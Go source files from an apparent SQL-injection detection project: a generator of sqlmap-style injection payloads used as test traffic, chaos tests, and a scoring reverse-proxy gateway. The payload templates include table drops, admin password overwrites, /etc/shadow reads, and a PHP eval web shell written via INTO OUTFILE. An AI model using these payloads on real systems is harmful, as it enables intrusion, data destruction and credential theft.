			return fmt.Sprintf("-%d union %sselect %s%s", n(rng, 99), all, unionColumns(rng, 2+rng.Intn(12)), commentTail(rng))
		},
		func(rng *rand.Rand) string { // 1: union with FROM clause
			return fmt.Sprintf("-%d union select %s from %s%s", n(rng, 99), unionColumns(rng, 2+rng.Intn(6)), pick(rng, tableNames), commentTail(rng))
		},
		func(rng *rand.Rand) string { // 2: quoted break-out union
			q := pick(rng, quoteStyles)
			return fmt.Sprintf("%d%s union select %s-- ", n(rng, 99), q, unionColumns(rng, 1+rng.Intn(5)))
		},
		func(rng *rand.Rand) string { // 3: null-probing union
			return fmt.Sprintf("null union select null,%s from dual", unionColumns(rng, 1))
		},
		func(rng *rand.Rand) string { // 4: order-by column probe then union
			return fmt.Sprintf("%d order by %d%s", n(rng, 99), 1+rng.Intn(20), commentTail(rng))
		},
	},
	FamilyErrorBased: {
		func(rng *rand.Rand) string { // 0: extractvalue
			return fmt.Sprintf("%d and extractvalue(1,concat(0x7e,(%s)))", n(rng, 99), subquery(rng))
		},
		func(rng *rand.Rand) string { // 1: updatexml
			return fmt.Sprintf("%d' and updatexml(1,concat(0x7e,(%s),0x7e),1)-- ", n(rng, 99), subquery(rng))
		},
		func(rng *rand.Rand) string { // 2: floor(rand()) duplicate-key
			return fmt.Sprintf("%d and (select 1 from (select count(*),concat((%s),floor(rand(0)*2))x from information_schema.tables group by x)a)", n(rng, 99), subquery(rng))
		},
		func(rng *rand.Rand) string { // 3: cast error
			return fmt.Sprintf("%d and cast((%s) as decimal)", n(rng, 99), subquery(rng))
		},
	},
	FamilyBooleanBlind: {
		func(rng *rand.Rand) string { // 0: AND n=n probing (sqlmap style)
			v := 1000 + rng.Intn(9000)
			if rng.Intn(3) == 0 {
				return fmt.Sprintf("%d and %d=%d", n(rng, 99), v, v+1)
			}
			return fmt.Sprintf("%d and %d=%d", n(rng, 99), v, v)
		},
		func(rng *rand.Rand) string { // 1: substring of version
			return fmt.Sprintf("%d' and substring(@@version,%d,1)='%d", n(rng, 99), n(rng, 5), 4+rng.Intn(5))
		},
		func(rng *rand.Rand) string { // 2: ascii char probing
			return fmt.Sprintf("%d and ascii(substr((%s),%d,1))>%d", n(rng, 99), subquery(rng), n(rng, 20), 32+rng.Intn(90))
		},
		func(rng *rand.Rand) string { // 3: exists probe
			return fmt.Sprintf("%d' and exists(select * from %s)%s", n(rng, 99), pick(rng, tableNames), commentTail(rng))
		},
		func(rng *rand.Rand) string { // 4: length probe
			return fmt.Sprintf("%d and length((%s))=%d", n(rng, 99), subquery(rng), n(rng, 30))
		},
	},
	FamilyTimeBlind: {
		func(rng *rand.Rand) string { // 0: sleep
			return fmt.Sprintf("%d and sleep(%d)", n(rng, 99), n(rng, 9))
		},
		func(rng *rand.Rand) string { // 1: quoted or sleep
			return fmt.Sprintf("%d' or sleep(%d)%s", n(rng, 99), n(rng, 9), commentTail(rng))
		},
		func(rng *rand.Rand) string { // 2: conditional sleep
			v := n(rng, 9)
			return fmt.Sprintf("%d and if(ascii(substr((%s),%d,1))>%d,sleep(%d),0)", n(rng, 99), subquery(rng), n(rng, 10), 64, v)
		},
		func(rng *rand.Rand) string { // 3: benchmark
			return fmt.Sprintf("%d and benchmark(%d000000,md5('%c'))", n(rng, 99), n(rng, 5), 'a'+rune(rng.Intn(26)))
		},
		func(rng *rand.Rand) string { // 4: waitfor (MSSQL style, crawled corpora carry these too)
			return fmt.Sprintf("%d'; waitfor delay '0:0:%d'-- ", n(rng, 99), n(rng, 9))
		},
	},
	FamilyStacked: {
		func(rng *rand.Rand) string { // 0: drop table
			return fmt.Sprintf("%d'; drop table %s; -- ", n(rng, 99), pick(rng, tableNames))
		},
		func(rng *rand.Rand) string { // 1: insert admin
			return fmt.Sprintf("%d; insert into %s (%s,%s) values ('hax','hax')-- ", n(rng, 99), pick(rng, tableNames), pick(rng, columnNames), pick(rng, columnNames))
		},
		func(rng *rand.Rand) string { // 2: update password
			return fmt.Sprintf("%d'; update %s set %s='pwned' where %s='admin'; -- ", n(rng, 99), pick(rng, tableNames), pick(rng, columnNames), pick(rng, columnNames))
		},
		func(rng *rand.Rand) string { // 3: delete rows
			return fmt.Sprintf("%d; delete from %s where %d=%d", n(rng, 99), pick(rng, tableNames), 1, 1)
		},
	},
	FamilyFileAccess: {
		func(rng *rand.Rand) string { // 0: load_file
			return fmt.Sprintf("%d union select load_file('%s'),2%s", n(rng, 99), pick(rng, []string{"/etc/passwd", "/etc/shadow", "c:\\boot.ini", "/var/www/config.php"}), commentTail(rng))
		},
		func(rng *rand.Rand) string { // 1: into outfile
			return fmt.Sprintf("%d' union select '<?php eval($_GET[c]);?>',2 into outfile '/var/www/shell.php'-- ", n(rng, 99))
		},
		func(rng *rand.Rand) string { // 2: into dumpfile
			return fmt.Sprintf("%d union select 0x%x into dumpfile '/tmp/x%d'", n(rng, 99), 0x41424344+rng.Intn(1000), rng.Intn(100))
		},
	},
	FamilySchemaProbe: {
		func(rng *rand.Rand) string { // 0: information_schema tables
			return fmt.Sprintf("-%d union select table_name,table_schema from information_schema.tables%s", n(rng, 99), commentTail(rng))
		},
		func(rng *rand.Rand) string { // 1: columns of a table
			return fmt.Sprintf("-%d union select column_name,null from information_schema.columns where table_name='%s'%s", n(rng, 99), pick(rng, tableNames), commentTail(rng))
		},
		func(rng *rand.Rand) string { // 2: privilege probing
			return fmt.Sprintf("%d union select user,password from mysql.user%s", n(rng, 99), commentTail(rng))
		},
		func(rng *rand.Rand) string { // 3: version/variables
			return fmt.Sprintf("%d union select @@version,@@datadir%s", n(rng, 99), commentTail(rng))
		},
	},
}

// buildPayload draws a payload for the family using the profile's template
// subset.
func (g *Generator) buildPayload(fam Family) string {
	pool := familyTemplates[fam]
	allowed := g.profile.Templates[fam]
	if len(allowed) == 0 {
		return pool[g.rng.Intn(len(pool))](g.rng)
	}
	idx := allowed[g.rng.Intn(len(allowed))]
	return pool[idx%len(pool)](g.rng)
}
