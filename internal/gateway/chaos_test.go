package gateway

// Chaos suite: the gateway in front of a deliberately hostile upstream —
// the demo webapp wrapped in faultify's deterministic injector. Fault
// schedules are a pure function of the seed and the request key, requests
// are driven in a fixed order, and the breaker is request-count based, so
// every status sequence here is bit-identical run to run. No test sleeps
// on the wall clock; Hang faults resolve through the gateway's short
// upstream deadline (the convention set by internal/crawl's chaos tests).

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"psigene/internal/attackgen"
	"psigene/internal/faultify"
	"psigene/internal/httpx"
	"psigene/internal/ids"
	"psigene/internal/ruleset"
	"psigene/internal/traffic"
	"psigene/internal/webapp"
)

// chaosWorkload is a fixed mixed request stream: benign browsing plus
// sqlmap-style injections, as URL targets for the proxy.
func chaosWorkload(n int) []string {
	reqs := attackgen.NewGenerator(attackgen.SQLMapProfile(), 21).Requests(n / 2)
	reqs = append(reqs, traffic.NewGenerator(22).Requests(n-n/2)...)
	out := make([]string, len(reqs))
	for i, r := range reqs {
		out[i] = r.URL()
	}
	return out
}

func snortEngine(t *testing.T) *ids.RuleEngine {
	t.Helper()
	e, err := ids.NewRuleEngine(ruleset.Snort(), ids.Options{})
	if err != nil {
		t.Fatalf("NewRuleEngine: %v", err)
	}
	return e
}

// chaosUpstream wraps the demo webapp in a fault injector at the given
// total rate, spread uniformly over all fault classes.
func chaosUpstream(seed int64, rate float64) (*httptest.Server, *faultify.Injector) {
	in := faultify.New(faultify.Config{Seed: seed, Rates: faultify.Uniform(rate)})
	srv := httptest.NewServer(in.Wrap(webapp.New(50)))
	return srv, in
}

// chaosOptions: a short real upstream deadline so Hang faults resolve in
// milliseconds, everything else at production defaults.
func chaosOptions() Options {
	return Options{UpstreamTimeout: 150 * time.Millisecond}
}

// allowedStatuses is every verdict the gateway may hand a client under
// chaos: app responses (200/404/500 from the webapp, 429 from RateLimit
// faults), gateway verdicts (403 blocked, 502 upstream failure, 503
// shed/breaker, 504 budget), and nothing else.
var allowedStatuses = map[int]bool{
	200: true, 404: true, 429: true, 403: true,
	500: true, 502: true, 503: true, 504: true,
}

// driveSequential runs the workload in order and returns the status codes.
func driveSequential(t *testing.T, g *Gateway, targets []string) []int {
	t.Helper()
	out := make([]int, len(targets))
	for i, target := range targets {
		w := get(g, target)
		if w.Code == 0 {
			t.Fatalf("request %d (%s): no verdict", i, target)
		}
		if !allowedStatuses[w.Code] {
			t.Fatalf("request %d (%s): unexpected status %d", i, target, w.Code)
		}
		out[i] = w.Code
	}
	return out
}

// TestChaosFaultStormDeterministic is the headline acceptance test: a 20%
// fault-rate upstream (500 storms, rate limits, hangs, resets, truncated
// and garbled bodies) behind the scoring proxy. Every request gets a
// verdict, the process never crashes, and two runs from the same seed
// produce bit-identical status sequences.
func TestChaosFaultStormDeterministic(t *testing.T) {
	targets := chaosWorkload(200)
	run := func() ([]int, Snapshot) {
		srv, _ := chaosUpstream(99, 0.20)
		defer srv.Close()
		g := mustGateway(t, srv.URL, snortEngine(t), chaosOptions())
		codes := driveSequential(t, g, targets)
		return codes, g.Snapshot()
	}

	codes, snap := run()
	if snap.Total != int64(len(targets)) {
		t.Fatalf("saw %d requests, want %d", snap.Total, len(targets))
	}
	// The storm must actually have hit all three visible failure paths:
	// app-level errors pass through, transport faults become 502s, and
	// the detector blocks part of the injection half.
	counts := map[int]int{}
	for _, c := range codes {
		counts[c]++
	}
	if counts[502] == 0 {
		t.Fatal("no upstream transport faults surfaced; injector not engaged")
	}
	if snap.Blocked == 0 {
		t.Fatal("no injections blocked; detector not engaged")
	}
	if snap.UpstreamErrors == 0 {
		t.Fatal("upstream errors not counted")
	}
	t.Logf("status mix over %d requests: %v (blocked=%d upstreamErrors=%d breakerRejected=%d)",
		len(targets), counts, snap.Blocked, snap.UpstreamErrors, snap.BreakerRejected)

	again, _ := run()
	for i := range codes {
		if codes[i] != again[i] {
			t.Fatalf("request %d: status %d vs %d across identical runs", i, codes[i], again[i])
		}
	}
}

// flakyDetector panics on every kth inspection — a deterministic stand-in
// for a signature with latent corrupt state.
type flakyDetector struct {
	inner ids.Detector
	k     int
	n     int
}

func (d *flakyDetector) Name() string { return "flaky" }

func (d *flakyDetector) Inspect(req httpx.Request) ids.Verdict {
	d.n++
	if d.n%d.k == 0 {
		panic(fmt.Sprintf("flaky detector: inspection %d", d.n))
	}
	return d.inner.Inspect(req)
}

// TestChaosScoringPanicsContained: a detector that panics every 7th
// request, under both policies, against a faulting upstream. The gateway
// answers every request and the panic count is exact.
func TestChaosScoringPanicsContained(t *testing.T) {
	targets := chaosWorkload(140)
	for _, tc := range []struct {
		policy   Policy
		degraded int // expected status for unscorable requests
	}{
		{FailOpen, 0}, {FailClosed, http.StatusForbidden},
	} {
		srv, _ := chaosUpstream(7, 0.20)
		g := mustGateway(t, srv.URL, &flakyDetector{inner: snortEngine(t), k: 7}, Options{
			UpstreamTimeout: 150 * time.Millisecond, Policy: tc.policy,
		})
		driveSequential(t, g, targets)
		snap := g.Snapshot()
		if want := int64(len(targets) / 7); snap.ScorePanics != want {
			t.Fatalf("%s: %d panics contained, want %d", tc.policy, snap.ScorePanics, want)
		}
		if tc.policy == FailClosed && snap.FailedClosed != snap.ScorePanics {
			t.Fatalf("fail-closed: %d rejections for %d panics", snap.FailedClosed, snap.ScorePanics)
		}
		if tc.policy == FailOpen && snap.FailedOpen != snap.ScorePanics {
			t.Fatalf("fail-open: %d degraded forwards for %d panics", snap.FailedOpen, snap.ScorePanics)
		}
		srv.Close()
	}
}

// TestChaosReloadDuringStorm interleaves hot reloads with the fault storm:
// good reloads advance the generation; corrupt reloads are rejected and
// the previous detector keeps serving without missing a request.
func TestChaosReloadDuringStorm(t *testing.T) {
	targets := chaosWorkload(120)
	srv, _ := chaosUpstream(13, 0.20)
	defer srv.Close()
	g := mustGateway(t, srv.URL, snortEngine(t), chaosOptions())

	// One model dir holding both pushes: a copy of the good model and a
	// corrupt one. The admin surface only accepts names inside it.
	modelDir := t.TempDir()
	goodBytes, err := os.ReadFile(trainedModel(t))
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(modelDir, "good.json"), string(goodBytes))
	writeFile(t, filepath.Join(modelDir, "corrupt.json"), `{"version": 1, "features": [{"name`)
	admin := g.Admin(AdminConfig{ModelDir: modelDir})

	wantGen := uint64(1)
	for i, target := range targets {
		if i > 0 && i%30 == 0 {
			// Alternate good and corrupt pushes mid-storm.
			w := get(g, target) // keep traffic flowing around the reload
			if !allowedStatuses[w.Code] {
				t.Fatalf("request %d: status %d", i, w.Code)
			}
			name := "good.json"
			if (i/30)%2 == 0 {
				name = "corrupt.json"
			}
			rw := adminReload(admin, name)
			if name == "good.json" {
				if rw.Code != http.StatusOK {
					t.Fatalf("good reload at %d: %d: %s", i, rw.Code, rw.Body.String())
				}
				wantGen++
			} else if rw.Code != http.StatusInternalServerError {
				t.Fatalf("corrupt reload at %d: %d, want 500", i, rw.Code)
			}
		}
		w := get(g, target)
		if !allowedStatuses[w.Code] {
			t.Fatalf("request %d: status %d", i, w.Code)
		}
	}
	if _, gen := g.Detector(); gen != wantGen {
		t.Fatalf("final generation %d, want %d", gen, wantGen)
	}
	snap := g.Snapshot()
	if snap.Reloads == 0 || snap.ReloadFailures == 0 {
		t.Fatalf("reload mix not exercised: %+v", snap)
	}
}

// TestChaosOverloadBurst saturates a MaxInFlight=2 gateway with 16
// concurrent requests against an all-hanging upstream: admitted requests
// resolve through the 150ms deadline, the rest shed immediately, and the
// books balance — every request is answered exactly once.
func TestChaosOverloadBurst(t *testing.T) {
	in := faultify.New(faultify.Config{Seed: 5, Rates: map[faultify.Class]float64{faultify.Hang: 1}, Repeats: -1})
	srv := httptest.NewServer(in.Wrap(webapp.New(10)))
	defer srv.Close()
	g := mustGateway(t, srv.URL, snortEngine(t), Options{
		MaxInFlight: 2, UpstreamTimeout: 150 * time.Millisecond, DisableBreaker: true,
	})

	const burst = 16
	codes := make(chan int, burst)
	var wg sync.WaitGroup
	for i := 0; i < burst; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			codes <- get(g, fmt.Sprintf("/products?id=%d", i)).Code
		}(i)
	}
	wg.Wait()
	close(codes)

	var shed, failed, other int
	for c := range codes {
		switch c {
		case http.StatusServiceUnavailable:
			shed++
		case http.StatusBadGateway, http.StatusGatewayTimeout:
			failed++
		default:
			other++
		}
	}
	if shed+failed+other != burst {
		t.Fatalf("answered %d of %d", shed+failed+other, burst)
	}
	if shed == 0 {
		t.Fatalf("burst of %d over capacity 2 shed nothing (shed=%d failed=%d other=%d)", burst, shed, failed, other)
	}
	if failed == 0 {
		t.Fatal("no admitted request met the hanging upstream")
	}
	if s := g.Snapshot(); s.Shed != int64(shed) {
		t.Fatalf("shed counter %d, want %d", s.Shed, shed)
	}
}

// TestChaosDrainDuringBurst drains the gateway while a concurrent burst is
// mid-flight against the faulting upstream: the drain completes, every
// request is answered (served or shed), and nothing is dropped mid-proxy.
func TestChaosDrainDuringBurst(t *testing.T) {
	srv, _ := chaosUpstream(31, 0.20)
	defer srv.Close()
	g := mustGateway(t, srv.URL, snortEngine(t), Options{
		MaxInFlight: 4, UpstreamTimeout: 150 * time.Millisecond,
	})

	targets := chaosWorkload(48)
	codes := make(chan int, len(targets))
	var wg sync.WaitGroup
	started := make(chan struct{}, len(targets))
	for _, target := range targets {
		wg.Add(1)
		go func(target string) {
			defer wg.Done()
			started <- struct{}{}
			codes <- get(g, target).Code
		}(target)
	}
	// Let part of the burst in, then drain while the rest is arriving.
	for i := 0; i < 8; i++ {
		<-started
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := g.Drain(ctx); err != nil {
		t.Fatalf("Drain during burst: %v", err)
	}
	wg.Wait()
	close(codes)

	n := 0
	for c := range codes {
		if c == 0 || !allowedStatuses[c] {
			t.Fatalf("dropped or mangled response: status %d", c)
		}
		n++
	}
	if n != len(targets) {
		t.Fatalf("answered %d of %d during drain", n, len(targets))
	}
	// Post-drain the gateway refuses new work but still reports health.
	if w := get(g, "/after"); w.Code != http.StatusServiceUnavailable {
		t.Fatalf("post-drain request: %d, want 503", w.Code)
	}
	if w := adminGet(g.Admin(AdminConfig{}), "/-/healthz"); w.Code != http.StatusOK {
		t.Fatalf("healthz post-drain: %d", w.Code)
	}
}
