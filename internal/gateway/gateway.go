// Package gateway is the serving side of pSigene: a reverse proxy that
// scores every inbound request with a Detector before forwarding it to the
// protected upstream. The paper deploys its generalized signatures inside
// Bro/Snort sensors; this package is the equivalent inline deployment for
// the reproduced pipeline, engineered for the failure modes a sensor in
// front of a production app actually meets — overload, upstream outages,
// corrupt model pushes, and buggy signatures — rather than for the happy
// path.
//
// The design is four layers:
//
//   - Admission control: a bounded in-flight semaphore sheds excess load
//     with 503 + Retry-After, request bodies are capped, and every request
//     runs under a deadline budget split between scoring and proxying.
//   - Fault containment: scoring runs under recover() and degrades to the
//     configured fail-open/fail-closed policy; upstream transport failures
//     feed the clock-free circuit breaker from internal/resilience.
//   - Hot reload: the detector is an atomic pointer swapped only after the
//     candidate model validates and survives a probe inspection, so a
//     corrupt push leaves the old detector serving; generation counters
//     let in-flight requests finish on the detector they started with.
//   - Lifecycle: graceful drain on shutdown plus /-/healthz, /-/readyz,
//     /-/statz, /-/metrics, POST /-/reload and the /-/canary/* rollout
//     endpoints, served by the separate handler returned by Admin — never
//     on the proxy's own listener, so public traffic cannot reach the
//     control surface and no upstream route is shadowed. Candidate models
//     can shadow-score a deterministic sample of live traffic (StartCanary)
//     before being promoted or rolled back; see canary.go.
package gateway

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"psigene/internal/admission"
	"psigene/internal/httpx"
	"psigene/internal/ids"
	"psigene/internal/resilience"
)

// Policy says what happens to a request when scoring itself fails (the
// detector panics): fail open forwards it unscored, fail closed rejects
// it. The right choice is a deployment decision — the paper's sensors are
// passive taps (implicitly fail-open); an inline gateway may prefer to
// refuse traffic it cannot vet.
type Policy int

const (
	// FailOpen forwards requests the detector could not score.
	FailOpen Policy = iota
	// FailClosed rejects requests the detector could not score with 403.
	FailClosed
)

// String names the policy for logs and /-/statz.
func (p Policy) String() string {
	if p == FailClosed {
		return "fail-closed"
	}
	return "fail-open"
}

// Options configures a Gateway. The zero value of every field has a safe
// default; only Upstream and an initial detector (Detector or ModelPath,
// via New's det argument) are required.
type Options struct {
	// MaxInFlight bounds concurrently served requests; excess requests
	// are shed with 503 + Retry-After. Default 256.
	MaxInFlight int
	// MaxBodyBytes caps the request body read for scoring; larger bodies
	// are rejected with 413 before any scoring work. Default 1 MiB.
	MaxBodyBytes int64
	// MaxResponseBytes caps the upstream response body; a response that
	// exceeds it (or dies mid-body, e.g. a truncated transfer) becomes a
	// clean 502. Default 4 MiB.
	MaxResponseBytes int64
	// ScoreBudget is the slice of the per-request deadline reserved for
	// scoring. Measured pSigene scoring is ~100µs p50 / ~370µs p99 (see
	// EXPERIMENTS.md), so the 10ms default is ~25x p99 headroom; a
	// detector that blows through it trips the budget check before the
	// proxy leg starts. Default 10ms.
	ScoreBudget time.Duration
	// UpstreamTimeout is the slice of the deadline for the proxy leg.
	// Default 5s; chaos tests shrink it so Hang faults resolve fast.
	UpstreamTimeout time.Duration
	// RetryAfter is the Retry-After value, in seconds, on shed and
	// breaker-rejected responses. Default 1.
	RetryAfter int
	// Policy is the scoring-failure policy. Default FailOpen.
	Policy Policy
	// BreakerThreshold and BreakerCooldown configure the upstream circuit
	// breaker (see resilience.NewBreaker). Threshold 0 disables the
	// breaker; the default is 5 consecutive transport failures with a
	// cooldown of 8 denied requests.
	BreakerThreshold, BreakerCooldown int
	// DisableBreaker turns the upstream breaker off (BreakerThreshold 0
	// means "default", so disabling needs its own switch).
	DisableBreaker bool
	// Client issues upstream requests. Default: http.DefaultTransport
	// with no client-level timeout (per-request deadlines govern).
	Client *http.Client
	// Now is the clock used for latency accounting and deadline math;
	// injectable so chaos tests control time. Default time.Now.
	Now func() time.Time
	// Admission is the per-client admission controller (keyed rate
	// limits, penalty box, CIDR denylist), checked before a request may
	// compete for the global in-flight semaphore. nil disables per-client
	// control; the global semaphore still applies. A panic inside the
	// controller fails open to the global semaphore — per-client control
	// is an optimization for fairness, never a reason to drop traffic.
	Admission *admission.Controller
	// ModelVersion and ModelSHA256 tag the initial detector with the
	// artifact version and content hash it was loaded from (see
	// core.Manifest). Empty when the detector is not artifact-backed; the
	// tags surface in X-Psigene-Gen, /-/statz and /-/metrics.
	ModelVersion string
	ModelSHA256  string
}

func (o *Options) fill() {
	if o.MaxInFlight <= 0 {
		o.MaxInFlight = 256
	}
	if o.MaxBodyBytes <= 0 {
		o.MaxBodyBytes = 1 << 20
	}
	if o.MaxResponseBytes <= 0 {
		o.MaxResponseBytes = 4 << 20
	}
	if o.ScoreBudget <= 0 {
		o.ScoreBudget = 10 * time.Millisecond
	}
	if o.UpstreamTimeout <= 0 {
		o.UpstreamTimeout = 5 * time.Second
	}
	if o.RetryAfter <= 0 {
		o.RetryAfter = 1
	}
	if o.BreakerThreshold <= 0 {
		o.BreakerThreshold = 5
	}
	if o.BreakerCooldown <= 0 {
		o.BreakerCooldown = 8
	}
	if o.Client == nil {
		o.Client = &http.Client{}
	}
	if o.Now == nil {
		//lint:ignore walltime the clock is injected: every decision reads o.Now, the chaos suites replace it with a deterministic counter, and this default only binds the real clock for production deployments
		o.Now = time.Now
	}
}

// detectorState is the immutable unit the atomic pointer swaps: a detector
// plus the generation it was installed at and, when the detector came from
// a versioned artifact, the artifact's version name and content hash.
// In-flight requests hold the state they loaded at admission, so a reload
// mid-request never splits one request across two signature sets.
type detectorState struct {
	det           ids.Detector
	gen           uint64
	version, hash string
}

// genHeader renders the X-Psigene-Gen value for a state: the bare
// generation for untagged detectors (pre-artifact behavior, which existing
// deployments parse), extended with the artifact version and a truncated
// content hash when known.
func genHeader(s *detectorState) string {
	out := strconv.FormatUint(s.gen, 10)
	if s.version != "" {
		out += " " + s.version
	}
	if s.hash != "" {
		h := s.hash
		if len(h) > 12 {
			h = h[:12]
		}
		out += " sha256:" + h
	}
	return out
}

// latencyRingSize bounds the scoring-latency window summarized by /-/statz.
const latencyRingSize = 1024

// Gateway is the scoring reverse proxy. Create with New; it serves via
// ServeHTTP and shuts down via Drain.
type Gateway struct {
	opts     Options
	upstream *url.URL

	state  atomic.Pointer[detectorState]
	gen    atomic.Uint64
	canary atomic.Pointer[canaryState]

	// sem is the admission semaphore: one token per in-flight request.
	// Drain acquires every token, which is exactly "no requests in
	// flight" with no Add/Wait race.
	sem      chan struct{}
	draining atomic.Bool

	// reloadMu serializes ReloadModel so concurrent pushes cannot
	// interleave their load and swap steps.
	reloadMu sync.Mutex

	// mu guards the breaker (resilience.Breaker is single-threaded by
	// contract) and the latency ring.
	mu       sync.Mutex
	breaker  *resilience.Breaker
	ring     [latencyRingSize]time.Duration
	ringLen  int
	ringNext int

	stats gatewayStats

	// baseMallocs is the process Mallocs count captured at construction;
	// Snapshot divides the growth since then by scored requests for the
	// approximate allocs-per-request gauge.
	baseMallocs uint64
}

// gatewayStats is the atomic counter block behind /-/statz.
type gatewayStats struct {
	total, shed, tooLarge, blocked, forwarded    atomic.Int64
	bodyErrors, scored                           atomic.Int64
	scorePanics, failedOpen, failedClosed        atomic.Int64
	upstreamErrors, breakerRejected, budgetSpent atomic.Int64
	reloads, reloadFailures                      atomic.Int64
	// Per-client admission outcomes: denylist 403s, tier-limit and
	// penalty-box 429s, controller panics failed open, and denylist
	// reload failures (the old trie kept serving).
	denied, rateLimited, penaltyBoxed atomic.Int64
	admissionPanics, denyReloadFails  atomic.Int64
}

// New builds a gateway proxying to upstream (a base URL such as
// "http://127.0.0.1:8080") and scoring with det.
func New(upstream string, det ids.Detector, opts Options) (*Gateway, error) {
	if det == nil {
		return nil, fmt.Errorf("gateway: nil detector")
	}
	u, err := url.Parse(upstream)
	if err != nil {
		return nil, fmt.Errorf("gateway: upstream %q: %w", upstream, err)
	}
	if u.Scheme == "" || u.Host == "" {
		return nil, fmt.Errorf("gateway: upstream %q must be an absolute URL", upstream)
	}
	opts.fill()
	g := &Gateway{
		opts:     opts,
		upstream: u,
		sem:      make(chan struct{}, opts.MaxInFlight),
	}
	if !opts.DisableBreaker {
		g.breaker = resilience.NewBreaker(opts.BreakerThreshold, opts.BreakerCooldown)
	}
	//lint:ignore atomicguard construction-time install: there is no serving detector yet to protect, and the chaos suites rely on New accepting always-panicking detectors to prove containment; every subsequent swap probes via SwapTagged/StartCanary
	g.state.Store(&detectorState{
		det: det, gen: g.gen.Add(1),
		version: opts.ModelVersion, hash: opts.ModelSHA256,
	})
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	g.baseMallocs = ms.Mallocs
	return g, nil
}

// Detector returns the currently installed detector and its generation.
func (g *Gateway) Detector() (ids.Detector, uint64) {
	s := g.state.Load()
	return s.det, s.gen
}

// ServingModel returns the serving detector together with its generation
// and the artifact identity it was loaded from (empty strings when the
// detector is not artifact-backed). The fleet front reads it to save the
// serving state before a coordinated swap so a partial fanout failure can
// roll every replica back to exactly what it was serving.
func (g *Gateway) ServingModel() (det ids.Detector, gen uint64, version, hash string) {
	s := g.state.Load()
	return s.det, s.gen, s.version, s.hash
}

// Ready reports whether the gateway is accepting new requests — the
// programmatic equivalent of GET /-/readyz. The fleet front's active
// health probes consult it so a draining replica drops out of the ring
// without a client-visible failure.
func (g *Gateway) Ready() bool {
	return !g.draining.Load()
}

// ServeHTTP is the data path: every request — including anything under
// /-/ , which belongs to the upstream here — runs through admission
// control, scoring, and the upstream leg. The admin surface is a separate
// handler (see Admin) meant for its own listener.
func (g *Gateway) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	g.stats.total.Add(1)

	// Per-client admission runs before the global semaphore so one
	// abusive caller is turned away on its own account instead of
	// consuming an in-flight token every legitimate caller competes for.
	// Its rejections are per-caller signals with their own statuses —
	// 403 for denylisted addresses, 429 + Retry-After for rate limits —
	// distinct from the global 503 shed below.
	if !g.admit(w, r) {
		return
	}

	// Admission: drain refuses new work; the semaphore sheds overload.
	// Both are load signals, so both carry Retry-After.
	if g.draining.Load() {
		g.shed(w, "draining")
		return
	}
	select {
	case g.sem <- struct{}{}:
		defer func() { <-g.sem }()
	default:
		g.shed(w, "overloaded")
		return
	}
	// A drain that started while we were acquiring still wins: without
	// this re-check a request could slip past Drain's token sweep.
	if g.draining.Load() {
		g.shed(w, "draining")
		return
	}

	g.proxy(w, r)
}

// admit runs per-client admission control, writing the rejection (403 or
// 429 + Retry-After) itself when the caller is turned away. It reports
// whether the request may proceed to global admission. A panic inside the
// controller is counted and fails open — the request proceeds to the
// global semaphore unscreened rather than being dropped, mirroring the
// scoring path's containment philosophy: per-client fairness degrading
// must never become an outage.
func (g *Gateway) admit(w http.ResponseWriter, r *http.Request) (proceed bool) {
	ctrl := g.opts.Admission
	if ctrl == nil {
		return true
	}
	var d admission.Decision
	func() {
		defer func() {
			if rec := recover(); rec != nil {
				g.stats.admissionPanics.Add(1)
				d = admission.Decision{Verdict: admission.Allow}
			}
		}()
		d = ctrl.Check(r)
	}()
	switch d.Verdict {
	case admission.Denied:
		g.stats.denied.Add(1)
		http.Error(w, "address denied", http.StatusForbidden)
		return false
	case admission.Limited:
		g.stats.rateLimited.Add(1)
		w.Header().Set("Retry-After", strconv.Itoa(d.RetryAfterSeconds))
		http.Error(w, "rate limit exceeded ("+d.Tier+")", http.StatusTooManyRequests)
		return false
	case admission.Boxed:
		g.stats.penaltyBoxed.Add(1)
		w.Header().Set("Retry-After", strconv.Itoa(d.RetryAfterSeconds))
		http.Error(w, "rate limit exceeded repeatedly; caller blocked", http.StatusTooManyRequests)
		return false
	}
	return true
}

// shed rejects a request for load reasons: 503 plus Retry-After.
func (g *Gateway) shed(w http.ResponseWriter, reason string) {
	g.stats.shed.Add(1)
	w.Header().Set("Retry-After", strconv.Itoa(g.opts.RetryAfter))
	http.Error(w, "gateway "+reason, http.StatusServiceUnavailable)
}

// proxy is the scored forwarding path: build the httpx view, score it
// under the budget, then either block or forward with what remains of the
// deadline.
func (g *Gateway) proxy(w http.ResponseWriter, r *http.Request) {
	start := g.opts.Now()
	state := g.state.Load()
	w.Header().Set("X-Psigene-Gen", genHeader(state))

	// The body read buffer is pooled and held until the upstream leg has
	// replayed it; requests without bodies never touch the heap for it.
	bb := bodyPool.Get().(*bodyBuf)
	defer bodyPool.Put(bb)
	req, body, err := g.inbound(r, bb)
	if errors.Is(err, errBodyTooLarge) {
		g.stats.tooLarge.Add(1)
		http.Error(w, fmt.Sprintf("gateway: body exceeds %d bytes", g.opts.MaxBodyBytes), http.StatusRequestEntityTooLarge)
		return
	} else if err != nil {
		// A transport failure (client abort, malformed chunked encoding)
		// is the client's error, not a size violation: 400, own counter.
		g.stats.bodyErrors.Add(1)
		http.Error(w, "gateway: unreadable request body", http.StatusBadRequest)
		return
	}

	verdict, scoreErr := g.score(state.det, req)
	g.stats.scored.Add(1)
	elapsed := g.opts.Now().Sub(start)
	g.recordLatency(elapsed)

	// Canary observation rides the primary verdict: a deterministic sample
	// of scored requests is also scored by the candidate detector and the
	// verdict delta recorded. The canary never decides the response.
	if scoreErr == nil {
		g.observeCanary(req, verdict)
	}

	if scoreErr != nil {
		g.stats.scorePanics.Add(1)
		if g.opts.Policy == FailClosed {
			g.stats.failedClosed.Add(1)
			http.Error(w, "gateway: request not scorable", http.StatusForbidden)
			return
		}
		g.stats.failedOpen.Add(1)
		w.Header().Set("X-Psigene-Degraded", "unscored")
	} else if verdict.Alert {
		g.stats.blocked.Add(1)
